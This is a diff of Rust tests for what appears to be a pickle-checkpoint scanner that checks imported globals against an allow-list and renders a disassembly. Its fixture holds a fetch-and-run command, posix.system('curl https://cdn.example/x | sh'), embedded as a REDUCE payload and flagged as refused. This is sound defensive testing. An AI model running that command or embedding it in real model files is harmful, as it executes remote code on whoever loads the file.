@@ -3,14 +3,28 @@
 use weighbridge::policy::{GlobalVerdict, Refusal};
 use weighbridge::{
     fact::{
-        Fact, Global, GlobalName, Hop, Observation, Place, Site, Text, Unread, Unresolved, Usage,
-        deceives,
+        Fact, Global, GlobalName, Hop, ListingLine, Observation, Place, Site, Text, Unread,
+        Unresolved, Usage, deceives,
     },
     report::{self, Style},
     verdict::{Inspection, JudgedGlobal, TorchVerdict},
 };
 
 use crate::support::report::{decided, hostile};
+
+fn hop(name: &str) -> Hop {
+    Hop::Member {
+        name: name.into(),
+        copy: 0,
+    }
+}
+
+fn opcode(text: &str, effect: &str) -> ListingLine {
+    ListingLine::Opcode {
+        text: text.to_owned(),
+        effect: effect.to_owned(),
+    }
+}
 
 fn seen(fact: Fact, hops: &[Hop], at: Place, count: u64) -> Observation {
     Observation {
@@ -36,6 +50,7 @@ fn judged(
         usages: usages.to_vec(),
         count,
         listed_by: (verdict == GlobalVerdict::Allowed).then(|| "torch".to_owned()),
+        arguments_refused: None,
         verdict,
     }
 }
@@ -86,12 +101,20 @@ fn resnet() -> Inspection {
             member("archive/version", 2),
             seen(Fact::Is("pickle".into()), &pickle, Place::Whole, 1),
             seen(
-                call(&rebuild, "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)"),
+                call(
+                    &rebuild,
+                    "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)",
+                ),
                 &pickle,
                 at(0x5a, "REDUCE"),
                 62,
             ),
-            seen(call(&system, "posix.system('curl https://cdn.example/x | sh')"), &pickle, at(0x1f, "REDUCE"), 1),
+            seen(
+                call(&system, "posix.system('curl https://cdn.example/x | sh')"),
+                &pickle,
+                at(0x1f, "REDUCE"),
+                1,
+            ),
             seen(
                 Fact::PersistentId {
                     preview: "('storage', …)".into(),
@@ -115,7 +138,10 @@ fn resnet() -> Inspection {
                     detail: "31 bytes follow the pickle's end".into(),
                 },
                 &pickle,
-                Place::Bytes { start: 1_203, end: 1_234 },
+                Place::Bytes {
+                    start: 1_203,
+                    end: 1_234,
+                },
                 1,
             ),
             seen(
@@ -123,47 +149,117 @@ fn resnet() -> Inspection {
                     detail: "opcode 0xff does not exist".into(),
                 }),
                 &pickle,
-                Place::Bytes { start: 1_203, end: 1_204 },
+                Place::Bytes {
+                    start: 1_203,
+                    end: 1_204,
+                },
                 1,
             ),
         ],
         globals: vec![
-            judged("posix", "system", &[Usage::Import, Usage::Call], 1, GlobalVerdict::Refused {
-                why: Refusal::Unlisted { near: None },
-                decided_by: Some(decided("weighbridge.yaml", 7, "allow: [torch]", "torch", "")),
-                danger: Some("runs a shell command"),
-            }),
-            judged("collections", "OrderedDict", &[Usage::Call], 3, GlobalVerdict::Allowed),
-            judged("torch._utils", "_rebuild_tensor_v2", &[Usage::Import, Usage::Call], 62, GlobalVerdict::Allowed),
-            judged("torch", "FloatStorge", &[Usage::Import], 1, refused(
-                Refusal::Unlisted { near: Some("torch.FloatStorage".to_owned()) },
-                None,
-            )),
-            judged("torch.nn", "Module", &[Usage::Call], 1, refused(
-                Refusal::Use { allowed: vec![Usage::Construct, Usage::Build] },
-                None,
-            )),
+            judged(
+                "posix",
+                "system",
+                &[Usage::Import, Usage::Call],
+                1,
+                GlobalVerdict::Refused {
+                    why: Refusal::Unlisted { near: None },
+                    decided_by: Some(decided(
+                        "weighbridge.yaml",
+                        7,
+                        "allow: [torch]",
+                        "torch",
+                        "",
+                    )),
+                    danger: Some("runs a shell command"),
+                },
+            ),
+            judged(
+                "collections",
+                "OrderedDict",
+                &[Usage::Call],
+                3,
+                GlobalVerdict::Allowed,
+            ),
+            judged(
+                "torch._utils",
+                "_rebuild_tensor_v2",
+                &[Usage::Import, Usage::Call],
+                62,
+                GlobalVerdict::Allowed,
+            ),
+            judged(
+                "torch",
+                "FloatStorge",
+                &[Usage::Import],
+                1,
+                refused(
+                    Refusal::Unlisted {
+                        near: Some("torch.FloatStorage".to_owned()),
+                    },
+                    None,
+                ),
+            ),
+            judged(
+                "torch.nn",
+                "Module",
+                &[Usage::Call],
+                1,
+                refused(
+                    Refusal::Use {
+                        allowed: vec![Usage::Construct, Usage::Build],
+                    },
+                    None,
+                ),
+            ),
             JudgedGlobal {
                 global: Global::Unresolved(Unresolved::Computed),
                 usages: vec![Usage::Call],
                 count: 2,
                 verdict: refused(Refusal::Unlisted { near: None }, None),
                 listed_by: None,
+                arguments_refused: None,
             },
         ],
         torch_loads: vec![TorchVerdict {
             place: String::new(),
             loads: false,
-            reasons: vec!["its unpickler does not list numpy._core.multiarray.scalar and numpy.dtype".to_owned()],
+            reasons: vec![
+                "its unpickler does not list numpy._core.multiarray.scalar and numpy.dtype"
+                    .to_owned(),
+            ],
             safe_globals: vec![
                 GlobalName::new("numpy._core.multiarray", "scalar"),
                 GlobalName::new("numpy", "dtype"),
             ],
         }],
         disassembly: Some(vec![
-            "0x0  PROTO            2".to_owned(),
-            "0x2  GLOBAL           posix.system          imports posix".to_owned(),
-            "0x1f  REDUCE           posix.system('curl https://cdn.example/x | sh') and a long explanation of it".to_owned(),
+            ListingLine::In(Site {
+                hops: vec![hop("resnet/data.pkl")],
+                at: Place::Whole,
+            }),
+            opcode("0x0000  PROTO             2", ""),
+            opcode(
+                "0x0002  GLOBAL            posix system",
+                "imports posix.system",
+            ),
+            opcode(
+                "0x0011  BINUNICODE        'curl https://cdn.example/x | sh'",
+                "",
+            ),
+            opcode(
+                "0x001f  REDUCE",
+                "calls posix.system('curl https://cdn.example/x | sh')",
+            ),
+            opcode(
+                "0x0020  BUILD",
+                "sets state on collections.OrderedDict(...)",
+            ),
+            opcode(
+                "0x0021  GLOBAL            numpy._core.multiarray _reconstruct",
+                "imports numpy._core.multiarray._reconstruct",
+            ),
+            ListingLine::Note("... (the listing stops after 4 lines)".to_owned()),
         ]),
     }
 }
@@ -195,17 +291,26 @@ fn a_file_of_nothing_but_tensors() {
     ");
 }
 
-/// A thousand harmless calls do not hide the one that matters.
+/// A thousand harmless calls do not hide the one that matters: they are counted beside their global.
 #[test]
-fn refused_calls_come_first() {
+fn only_refused_calls_are_shown() {
     let mut inspection = resnet();
     let rebuild = inspection.observations[5].clone();
     inspection
         .observations
         .splice(5..5, std::iter::repeat_n(rebuild, 1000));
     let text = page(&inspection, Style::default());
-    assert!(text.find("posix.system('curl").unwrap() < text.find("_rebuild_tensor_v2(").unwrap());
-    assert!(text.contains("and 989 calls more"), "{text}");
+    assert!(text.contains("posix.system('curl"), "{text}");
+    assert!(!text.contains("_rebuild_tensor_v2("), "{text}");
+    // A call is refused with its global, and when its arguments are not those the policy allows.
+    for global in &mut inspection.globals {
+        if global.verdict == GlobalVerdict::Allowed {
+            global.arguments_refused = Some("argument 1: not a string".to_owned());
+        }
+    }
+    let text = page(&inspection, Style::default());
+    assert!(text.contains("_rebuild_tensor_v2("), "{text}");
+    assert!(text.contains("argument 1: not a string"), "{text}");
 }
 
 /// A snippet to paste into a program holds identifiers and nothing else.
@@ -239,7 +344,15 @@ fn forge(name: &str) {
     let mut inspection = resnet();
     inspection.path = hostile_text();
     inspection.policy = hostile();
-    inspection.disassembly = Some(vec![hostile(), format!("0x1 {}", hostile())]);
+    inspection.disassembly = Some(vec![
+        ListingLine::Note(hostile()),
+        ListingLine::In(Site {
+            hops: vec![hop(&hostile())],
+            at: Place::Whole,
+        }),
+        opcode(&hostile(), &hostile()),
+        opcode(&format!("0x1 {}", hostile()), &hostile()),
+    ]);
     for global in &mut inspection.globals {
         global.global = Global::Named(GlobalName::new(hostile_text(), hostile_text()));
         global.listed_by = Some(hostile());
